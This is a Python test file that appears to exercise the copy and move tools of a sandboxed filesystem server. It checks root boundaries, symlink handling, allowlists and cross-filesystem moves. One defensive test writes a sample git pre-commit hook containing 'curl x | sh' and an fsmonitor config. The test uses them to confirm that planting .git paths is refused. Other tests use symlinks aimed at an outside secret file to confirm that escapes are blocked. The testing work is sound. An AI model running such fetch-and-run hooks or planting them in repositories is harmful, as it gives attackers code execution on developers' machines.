"""copy and move over the real protocol: seed 003 E2E-002, 041–047, 067, 068, the symlink policy of
recursive copies, folder semantics, protected paths inside trees, and moves across filesystems."""

from __future__ import annotations

import os
import shutil
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import Harness, MakeServer, no_host_path, tr, tree

pytestmark = pytest.mark.anyio


@pytest.fixture
async def two(make_server: MakeServer, tmp_path: Path) -> Harness:
    """Roots `source` and `dest`, every tool allowed."""
    return await make_server({"source": tmp_path / "src_root", "dest": tmp_path / "dst_root"})


@pytest.fixture
async def pair(make_server: MakeServer, workspace: Path, tmp_path: Path) -> Harness:
    """Roots `workspace` and `other`, every tool allowed."""
    return await make_server({"workspace": workspace, "other": tmp_path / "other"})


# -- copy -----------------------------------------------------------------------------------------


async def test_e2e_002_multi_root_discovery_and_cross_root_copy(two: Harness, tmp_path: Path) -> None:
    roots = await two.ok("list_roots")
    assert [r["name"] for r in roots["roots"]] == ["source", "dest"]
    assert str(tmp_path) not in str(roots)
    await two.ok("write_file", root="source", path="data.txt", content="important data")
    got = await two.ok("copy", **tr("data.txt", "data.txt", "source", "dest"))
    assert got == {"source": "data.txt", "destination": "data.txt", "is_directory": False, "size": 14}
    assert (await two.ok("read_file", root="dest", path="data.txt"))["content"] == "important data"


async def test_e2e_041_copy_within_a_root(server: Harness, workspace: Path) -> None:
    (workspace / "original.txt").write_text("known content")
    await server.ok("copy", **tr("original.txt", "duplicate.txt"))
    for name in ("original.txt", "duplicate.txt"):
        assert (await server.ok("read_file", root="workspace", path=name))["content"] == "known content"


async def test_e2e_042_copy_across_roots(two: Harness, tmp_path: Path) -> None:
    (tmp_path / "src_root/file.txt").write_text("payload")
    await two.ok("copy", **tr("file.txt", "file.txt", "source", "dest"))
    assert (tmp_path / "src_root/file.txt").read_text() == (tmp_path / "dst_root/file.txt").read_text() == "payload"


async def test_e2e_043_copy_folder_recursively(server: Harness, workspace: Path) -> None:
    for rel in ("project/a.go", "project/pkg/b.go", "project/pkg/sub/c.go"):
        (workspace / rel).parent.mkdir(parents=True, exist_ok=True)
        (workspace / rel).write_text(rel)
    (workspace / "project/empty").mkdir()
    got = await server.ok("copy", **tr("project", "project-backup"))
    assert got["is_directory"] is True and got["files_copied"] == 3 and "skipped" not in got
    matches = await server.ok("glob", root="workspace", pattern="project-backup/**/*")
    found = {m["path"] for m in matches["matches"]}
    assert {"project-backup/a.go", "project-backup/pkg/b.go", "project-backup/pkg/sub/c.go"} <= found
    assert tree(workspace / "project-backup") == tree(workspace / "project")


async def test_e2e_044_copy_missing_source(server: Harness, workspace: Path) -> None:
    assert await server.err("copy", **tr("missing.txt", "x.txt")) == "source file not found: missing.txt"
    assert not (workspace / "x.txt").exists()


async def test_copy_into_existing_folder_and_over_existing_file(server: Harness, workspace: Path) -> None:
    (workspace / "a.txt").write_text("new")
    (workspace / "box").mkdir()
    got = await server.ok("copy", **tr("a.txt", "box"))
    assert got["destination"] == "box/a.txt" and (workspace / "box/a.txt").read_text() == "new"
    (workspace / "old.txt").write_text("old old old")
    (workspace / "old.txt").chmod(0o600)
    await server.ok("copy", **tr("a.txt", "old.txt"))
    assert (workspace / "old.txt").read_text() == "new"
    assert (workspace / "old.txt").stat().st_mode & 0o777 == 0o600  # the replaced file keeps its mode
    got = await server.ok("copy", **tr("a.txt", "made/for/it.txt"))
    assert (workspace / "made/for/it.txt").read_text() == "new"


async def test_copy_folder_never_merges_into_an_existing_one(server: Harness, workspace: Path) -> None:
    (workspace / "src/sub").mkdir(parents=True)
    (workspace / "box/src").mkdir(parents=True)
    (workspace / "box/src/keep.txt").write_text("keep")
    msg = await server.err("copy", **tr("src", "box"))
    assert msg.startswith("destination already exists: box/src")
    assert tree(workspace / "box") == {"src": "dir", "src/keep.txt": "keep"}


async def test_copy_folder_into_itself_is_refused(server: Harness, workspace: Path) -> None:
    (workspace / "a/b").mkdir(parents=True)
    assert "into itself" in await server.err("copy", **tr("a", "a/b/c"))
    assert "into itself" in await server.err("copy", **tr("", "inner"))  # the root into itself
    assert tree(workspace) == {"a": "dir", "a/b": "dir"}


async def test_copy_the_whole_root_to_another_root(two: Harness, tmp_path: Path) -> None:
    (tmp_path / "src_root/x/y.txt").parent.mkdir(parents=True)
    (tmp_path / "src_root/x/y.txt").write_text("y")
    got = await two.ok("copy", **tr("", "backup", "source", "dest"))
    assert got["destination"] == "backup" and (tmp_path / "dst_root/backup/x/y.txt").read_text() == "y"
    got = await two.ok("copy", **tr(".", "", "source", "dest"))  # into an existing folder: named after the root
    assert got["destination"] == "source" and (tmp_path / "dst_root/source/x/y.txt").read_text() == "y"


async def test_recursive_copy_symlink_policy(two: Harness, tmp_path: Path, outside: Path, resolver: str) -> None:
    src = tmp_path / "src_root"
    (src / "proj/lib").mkdir(parents=True)
    (src / "proj/lib/real.txt").write_text("real")
    (src / "proj/in_tree").symlink_to("lib/real.txt")  # stays in the copied tree: recreated
    (src / "proj/lib/up").symlink_to("../in_tree")  # also inside
    (src / "proj/abs").symlink_to(outside / "secret.txt")  # absolute: skipped
    (src / "proj/rel_out").symlink_to("../../../outside/secret.txt")  # leads out of the root: skipped
    (src / "proj/dir_out").symlink_to(outside)  # a directory outside: never entered
    (src / "top.txt").write_text("top")
    (src / "proj/lib/to_top").symlink_to("../../top.txt")  # from dest proj/lib: the dest root's top.txt, inside
    os.mkfifo(src / "proj/pipe")
    got = await two.ok("copy", **tr("proj", "proj", "source", "dest"))
    copied = tree(tmp_path / "dst_root/proj")
    assert copied == {"lib": "dir", "lib/real.txt": "real", "lib/up": "-> ../in_tree", "in_tree": "-> lib/real.txt",
                      "lib/to_top": "-> ../../top.txt"}
    assert sorted(s["path"] for s in got["skipped"]) == ["abs", "dir_out", "pipe", "rel_out"]
    assert "OUTSIDE-SECRET" not in str(tree(tmp_path / "dst_root"))
    # The recreated link to "../../top.txt" resolves inside the dest root (to a file that is not there).
    assert "file not found" in await two.err("read_file", root="dest", path="proj/lib/to_top")


async def test_copy_source_symlink_is_followed_only_inside_its_root(server: Harness, workspace: Path,
                                                                    outside: Path, resolver: str) -> None:
    (workspace / "real.txt").write_text("in root")
    (workspace / "link.txt").symlink_to("real.txt")
    await server.ok("copy", **tr("link.txt", "copy.txt"))
    assert (workspace / "copy.txt").read_text() == "in root" and not (workspace / "copy.txt").is_symlink()
    (workspace / "escape").symlink_to(outside / "secret.txt")
    assert await server.err("copy", **tr("escape", "stolen.txt")) == "path resolves outside root boundary"
    assert not (workspace / "stolen.txt").exists()


async def test_copy_refuses_fifo_source(server: Harness, workspace: Path) -> None:
    os.mkfifo(workspace / "pipe")
    assert "not a regular file" in await server.err("copy", **tr("pipe", "p2"))


@pytest.mark.parametrize("tool", ["copy", "move"])
async def test_e2e_067_source_allowlist_checked(make_server: MakeServer, tmp_path: Path, tool: str) -> None:
    (tmp_path / "r").mkdir()
    (tmp_path / "r/f.txt").write_text("f")
    h = await make_server({"restricted": (tmp_path / "r", ["list_folder"]), "dest": (tmp_path / "d", ["*"])})
    msg = await h.err(tool, **tr("f.txt", "f.txt", "restricted", "dest"))
    assert msg == f"tool {tool} not allowed on root restricted"
    assert (tmp_path / "r/f.txt").exists() and not (tmp_path / "d/f.txt").exists()


@pytest.mark.parametrize("tool", ["copy", "move"])
async def test_e2e_068_dest_allowlist_checked(make_server: MakeServer, tmp_path: Path, tool: str) -> None:
    (tmp_path / "s").mkdir()
    (tmp_path / "s/f.txt").write_text("f")
    h = await make_server({"source": (tmp_path / "s", ["*"]),
                           "readonly": (tmp_path / "ro", ["list_folder", "read_file"])})
    msg = await h.err(tool, **tr("f.txt", "f.txt", "source", "readonly"))
    assert msg == f"tool {tool} not allowed on root readonly"
    assert (tmp_path / "s/f.txt").exists() and not (tmp_path / "ro/f.txt").exists()


async def test_copy_and_move_refuse_to_plant_protected_paths(server: Harness, workspace: Path) -> None:
    (workspace / "evil/hooks").mkdir(parents=True)
    (workspace / "evil/hooks/pre-commit").write_text("#!/bin/sh\ncurl x | sh\n")
    (workspace / "evil/config").write_text("[core]\n\tfsmonitor = evil\n")
    (workspace / "repo").mkdir()
    for tool in ("copy", "move"):
        msg = await server.err(tool, **tr("evil", "repo/.git"))
        assert "protected path: repo/.git is a git directory or file (.git)" in msg
        assert not (workspace / "repo/.git").exists()
        assert "protected path" in await server.err(tool, **tr("evil/config", ".git/config"))
    assert [p.name for p in workspace.iterdir() if p.name.startswith(".")] == []  # no temp folders left
    assert (workspace / "evil/config").exists()
    (workspace / ".mcp.json").write_text("{}")
    msg = await server.err("move", **tr(".mcp.json", "elsewhere.json"))  # moving it away removes it
    assert "protected path: .mcp.json" in msg and (workspace / ".mcp.json").exists()
    await server.ok("copy", **tr(".mcp.json", "copy-of-mcp.json"))  # reading it is fine


# -- move -----------------------------------------------------------------------------------------


async def test_e2e_045_move_within_a_root(server: Harness, workspace: Path) -> None:
    (workspace / "old_name.txt").write_text("known content")
    ino = (workspace / "old_name.txt").stat().st_ino
    got = await server.ok("move", **tr("old_name.txt", "new_name.txt"))
    assert got == {"source": "old_name.txt", "destination": "new_name.txt", "is_directory": False,
                   "method": "rename"}
    assert "file not found" in await server.err("stat_file", root="workspace", path="old_name.txt")
    assert (await server.ok("read_file", root="workspace", path="new_name.txt"))["content"] == "known content"
    assert (workspace / "new_name.txt").stat().st_ino == ino  # a rename, not a copy


async def test_e2e_046_move_across_roots(two: Harness, tmp_path: Path) -> None:
    (tmp_path / "src_root/file.txt").write_text("moving")
    await two.ok("move", **tr("file.txt", "file.txt", "source", "dest"))
    assert not (tmp_path / "src_root/file.txt").exists()
    assert (tmp_path / "dst_root/file.txt").read_text() == "moving"


async def test_e2e_047_move_missing_source(server: Harness) -> None:
    assert await server.err("move", **tr("missing.txt", "x.txt")) == "source file not found: missing.txt"


async def test_move_semantics(server: Harness, workspace: Path) -> None:
    (workspace / "d/inner").mkdir(parents=True)
    (workspace / "d/inner/f.txt").write_text("f")
    (workspace / "box").mkdir()
    got = await server.ok("move", **tr("d", "box"))  # into an existing folder
    assert got["destination"] == "box/d" and (workspace / "box/d/inner/f.txt").read_text() == "f"
    (workspace / "a.txt").write_text("A")
    (workspace / "b.txt").write_text("B")
    await server.ok("move", **tr("a.txt", "b.txt"))  # replaces a file
    assert (workspace / "b.txt").read_text() == "A" and not (workspace / "a.txt").exists()
    (workspace / "c.txt").write_text("C")
    assert "already exists" in await server.err("move", **tr("box/d", "c.txt"))  # a folder onto a file
    assert "into itself" in await server.err("move", **tr("box", "box/d/inner"))
    assert (workspace / "box/d/inner/f.txt").exists() and (workspace / "c.txt").read_text() == "C"


async def test_move_symlink_moves_the_link(server: Harness, workspace: Path, outside: Path) -> None:
    (workspace / "escape").symlink_to(outside / "secret.txt")
    await server.ok("move", **tr("escape", "moved-link"))
    assert os.readlink(workspace / "moved-link") == str(outside / "secret.txt")
    assert (outside / "secret.txt").read_text() == "OUTSIDE-SECRET\n"


@pytest.fixture
def shm_dir() -> Iterator[Path]:
    """A directory on another filesystem than the temp dir (tmpfs), for EXDEV moves."""
    if not os.access("/dev/shm", os.W_OK) or os.stat("/dev/shm").st_dev == os.stat(tempfile.gettempdir()).st_dev:
        pytest.skip("needs /dev/shm on a different filesystem")
    path = Path(tempfile.mkdtemp(dir="/dev/shm", prefix="rootbound-test-"))
    yield path
    shutil.rmtree(path, ignore_errors=True)


async def test_move_across_filesystems_copies_then_deletes(make_server: MakeServer, tmp_path: Path,
                                                           shm_dir: Path) -> None:
    src = tmp_path / "src_root"
    (src / "pkg/sub").mkdir(parents=True)
    (src / "pkg/sub/a.txt").write_text("a")
    (src / "pkg/link").symlink_to("sub/a.txt")
    (src / "file.bin").write_bytes(b"\x00" * 1000)
    (src / "file.bin").chmod(0o640)
    h = await make_server({"source": src, "shm": shm_dir})
    got = await h.ok("move", **tr("pkg", "pkg", "source", "shm"))
    assert got["method"] == "copy" and got["is_directory"] is True
    assert tree(shm_dir / "pkg") == {"sub": "dir", "sub/a.txt": "a", "link": "-> sub/a.txt"}
    assert not (src / "pkg").exists()
    await h.ok("move", **tr("file.bin", "deep/file.bin", "source", "shm"))
    assert (shm_dir / "deep/file.bin").read_bytes() == b"\x00" * 1000 and not (src / "file.bin").exists()
    assert (shm_dir / "deep/file.bin").stat().st_mode & 0o777 == 0o640


async def test_move_across_filesystems_refuses_what_it_cannot_copy(make_server: MakeServer, tmp_path: Path,
                                                                   shm_dir: Path, outside: Path) -> None:
    src = tmp_path / "src_root"
    (src / "pkg").mkdir(parents=True)
    (src / "pkg/a.txt").write_text("a")
    (src / "pkg/out").symlink_to(outside / "secret.txt")
    h = await make_server({"source": src, "shm": shm_dir})
    msg = await h.err("move", **tr("pkg", "pkg", "source", "shm"))
    assert "cannot be copied safely" in msg and "out" in msg
    assert tree(src / "pkg") == {"a.txt": "a", "out": f"-> {outside / 'secret.txt'}"}  # the source is intact
    assert list(shm_dir.iterdir()) == []  # and nothing (not even a temp folder) at the destination


# -- attacks through copy and move: links leading out, destinations outside, protected folders ---------


async def test_copy_folder_with_outside_links_into_another_root(pair: Harness, workspace: Path, outside: Path,
                                                                tmp_path: Path) -> None:
    (workspace / "a" / "d").mkdir(parents=True)
    (workspace / "a" / "d" / "abs").symlink_to(outside / "secret.txt")
    (workspace / "a" / "d" / "rel").symlink_to("../../../outside/secret.txt")
    (workspace / "a" / "d" / "up").symlink_to("../../x.txt")  # in the source root; one level too high in `other`
    got = await pair.ok("copy", **tr("a/d", "d", "workspace", "other"))
    assert sorted(s["path"] for s in got["skipped"]) == ["abs", "rel", "up"]
    assert os.listdir(tmp_path / "other" / "d") == []
    no_host_path(str(got), tmp_path)


async def test_copy_source_through_outside_symlink_refused(pair: Harness, workspace: Path, outside: Path) -> None:
    (workspace / "out").symlink_to("../outside")
    assert "outside root boundary" in await pair.err("copy", **tr("out/secret.txt", "s.txt", "workspace", "other"))
    assert "outside root boundary" in await pair.err("copy", **tr("out", "o", "workspace", "other"))


@pytest.mark.parametrize("dest", ["out/x.txt", "out", "dangling", "deep/../../outside/x"])
@pytest.mark.parametrize("tool", ["copy", "move"])
async def test_copy_and_move_destination_never_outside(server: Harness, workspace: Path, outside: Path,
                                                       resolver: str, dest: str, tool: str) -> None:
    (workspace / "f.txt").write_text("in\n")
    (workspace / "deep").mkdir()
    (workspace / "out").symlink_to("../outside")
    (workspace / "dangling").symlink_to("../outside/planted.txt")
    before = tree(outside)
    res = await server.call(tool, **tr("f.txt", dest))
    if tool == "move" and dest == "dangling" and not res.is_error:
        assert not (workspace / "dangling").is_symlink()  # the link was replaced, not followed
    else:
        assert res.is_error
    assert tree(outside) == before


async def test_move_symlink_where_it_would_lead_outside_is_refused(pair: Harness, workspace: Path,
                                                                   tmp_path: Path) -> None:
    """A relative link that is fine where it is must not be moved to where it leads out of its root."""
    (workspace / "a" / "b").mkdir(parents=True)
    (workspace / "x.txt").write_text("x\n")
    (workspace / "a" / "b" / "l").symlink_to("../../x.txt")
    text = await pair.err("move", **tr("a/b/l", "l"))
    assert "outside" in text
    assert os.readlink(workspace / "a" / "b" / "l") == "../../x.txt"
    assert "outside" in await pair.err("move", **tr("a/b/l", "l", "workspace", "other"))
    # A folder holding such a link is refused too, moved within the root or to another one.
    assert "outside" in await pair.err("move", **tr("a/b", "b"))
    assert "outside" in await pair.err("move", **tr("a/b", "b", "workspace", "other"))
    assert (workspace / "a" / "b" / "l").is_symlink()
    # Moves that keep every link inside still work.
    await pair.ok("move", **tr("a/b/l", "c/d/l"))
    assert (workspace / "c" / "d" / "l").read_text() == "x\n"


async def test_move_folder_into_its_own_subtree_through_a_symlink(server: Harness, workspace: Path) -> None:
    (workspace / "a" / "sub").mkdir(parents=True)
    (workspace / "into").symlink_to("a/sub")
    text = await server.err("move", **tr("a", "into/a"))
    assert "into itself" in text
    assert (workspace / "a" / "sub").is_dir()
    assert "into itself" in await server.err("copy", **tr("a", "into/a"))


async def test_protected_folder_planted_by_copy_or_move(server: Harness, workspace: Path) -> None:
    (workspace / "evil" / "hooks").mkdir(parents=True)
    (workspace / "evil" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
    (workspace / ".git").mkdir()
    assert "protected path" in await server.err("copy", **tr("evil/hooks", ".git/hooks"))
    assert "protected path" in await server.err("move", **tr("evil/hooks", ".git/hooks"))
    assert "protected path" in await server.err("move", **tr("evil", "repo/.git"))
    assert "protected path" in await server.err("copy", **tr("evil", "repo/.git"))
    assert not (workspace / ".git" / "hooks").exists()
    assert not (workspace / "repo" / ".git").exists()
